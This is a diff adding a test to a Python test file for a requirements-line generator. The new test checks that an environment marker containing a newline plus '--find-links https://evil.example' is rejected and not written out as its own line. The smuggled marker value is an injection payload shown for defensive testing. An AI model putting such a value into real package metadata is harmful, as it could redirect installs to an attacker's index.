@@ -52,6 +52,13 @@ def test_groups_for_development_and_extras_are_not_asked_for():
     assert requirement_lines(every).requirements == ("c",)
 
 
+def test_no_quoted_text_of_a_marker_begins_a_line_of_its_own():
+    marker = "python_version > '3\n--find-links https://evil.example\n'"
+    found = requirement_lines([declared("numpy", marker=marker)])
+    assert found.requirements == ()
+    assert found.left_out
+
+
 def test_parts_of_a_line():
     assert name_of("ray[tune]>=2 ; python_version < '3'") == "ray"
     assert name_of("Scikit_Learn") == "scikit-learn"
